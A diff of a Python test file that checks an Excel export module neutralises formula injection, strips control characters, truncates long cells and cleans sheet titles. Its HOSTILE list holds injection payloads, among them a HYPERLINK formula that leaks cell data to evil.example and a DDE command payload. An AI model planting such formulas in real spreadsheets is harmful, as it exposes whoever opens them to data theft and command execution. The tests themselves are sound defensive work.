@@ -1,5 +1,7 @@
-"""core.excel: what a stored value can do to an export (nothing)."""
+"""core.excel's writer: what a stored value can do to an export (nothing)."""
+import datetime
 import io
+import zipfile
 
 from openpyxl import load_workbook
 
@@ -8,7 +10,7 @@ from core.excel import build_workbook
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?d="&A5&B5,"点击核对")',
     "=cmd|' /C calc'!A0",
-    "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
+    "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "－2", "＠SUM(A1)",
 ]
 
 
@@ -16,18 +18,69 @@ def _read(content: bytes):
     return load_workbook(io.BytesIO(content)).active
 
 
-def test_text_that_looks_like_a_formula_is_written_as_text_and_shown_unchanged():
+def _sheet_xml(content: bytes) -> str:
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return archive.read("xl/worksheets/sheet1.xml").decode()
+
+
+def test_text_that_looks_like_a_formula_is_a_quote_prefixed_string_shown_unchanged():
     content = build_workbook(title="t", notes=[], headers=["h"], rows=([v] for v in HOSTILE))
     sheet = _read(content)
     cells = [sheet.cell(row=3 + i, column=1) for i in range(len(HOSTILE))]
     assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)
-    # XML normalises a bare CR to LF when the file is read back; everything else is byte-identical.
+    # A CR is written as LF (what Excel's Alt+Enter is), so what reads back is what was written.
     assert [c.value for c in cells] == [v.replace("\r", "\n") for v in HOSTILE]
-    assert b"<f>" not in content  # no formula element anywhere in the file
+    # quotePrefix: editing the cell in Excel and pressing Enter keeps it text, not a live formula.
+    assert all(c.quotePrefix for c in cells)
+    assert "<f>" not in _sheet_xml(content)  # no formula element anywhere in the sheet
 
 
-def test_control_characters_are_dropped_not_fatal():
-    content = build_workbook(title="t\x01", notes=["n\x0b"], headers=["h\x00"], rows=[["三组\x0b12号", 3]])
+def test_plain_text_has_no_quote_prefix_and_titles_notes_and_headers_are_protected_too():
+    content = build_workbook(title="=title", notes=["+note"], headers=["-h", "ok"], rows=[["三组 12 号", "a-b"]])
     sheet = _read(content)
-    assert sheet.cell(row=4, column=1).value == "三组12号"
-    assert sheet.cell(row=4, column=2).value == 3
+    assert [sheet["A1"].quotePrefix, sheet["A2"].quotePrefix, sheet["A3"].quotePrefix] == [True, True, True]
+    assert (sheet["B3"].quotePrefix, sheet["A4"].quotePrefix, sheet["B4"].quotePrefix) == (False, False, False)
+    assert (sheet["A1"].data_type, sheet["A1"].value) == ("s", "=title")
+
+
+def test_control_characters_and_xml_non_characters_are_dropped_not_fatal():
+    content = build_workbook(title="t\x01", notes=["n\x0b"], headers=["h\x00"],
+                             rows=[["三组\x0b12号", 3], ["\ufffe备注\uffff\x1f", None]])
+    sheet = _read(content)
+    assert (sheet["A4"].value, sheet["B4"].value, sheet["A5"].value) == ("三组12号", 3, "备注")
+    assert (sheet["A1"].value, sheet["A2"].value, sheet["A3"].value) == ("t", "n", "h")
+
+
+def test_text_past_excels_cell_limit_is_cut_with_a_marker_instead_of_a_broken_file():
+    content = build_workbook(title="t", notes=[], headers=["h"], rows=[["x" * 40000]])
+    value = _read(content)["A3"].value
+    assert len(value) <= 32767 and value.endswith("…[截断]")
+
+
+def test_numbers_dates_and_values_excel_cannot_hold():
+    rows = [[1, 2.5, datetime.date(2024, 3, 1), datetime.date(1899, 1, 1), float("nan"), float("inf"), True]]
+    sheet = _read(build_workbook(title="t", notes=[], headers=["h"], rows=rows))
+    values = [c.value for c in sheet[3]]
+    assert values[:3] == [1, 2.5, datetime.datetime(2024, 3, 1)]
+    assert values[3:] == ["1899-01-01", "nan", "inf", True]
+
+
+def test_sheet_titles_excel_refuses_are_cleaned():
+    sheet = _read(build_workbook(title="t", notes=[], headers=["h"], rows=[], sheet_title="名册[1]/2:*?" + "x" * 40))
+    assert sheet.title.startswith("名册-1--2---") and len(sheet.title) == 31
+
+
+def test_every_xlsx_the_project_writes_goes_through_core_excel():
+    """An export written with openpyxl or XlsxWriter directly would skip every rule above."""
+    from pathlib import Path
+
+    root = Path(__file__).resolve().parents[2]
+    offenders = []
+    for path in root.glob("*/**/*.py"):
+        relative = path.relative_to(root).as_posix()
+        if relative.startswith((".venv/", "tests/", "core/excel/", "bench/")):
+            continue
+        text = path.read_text(encoding="utf-8")
+        if "xlsxwriter" in text.lower() or "from openpyxl import Workbook" in text or "Workbook(" in text:
+            offenders.append(relative)
+    assert offenders == []
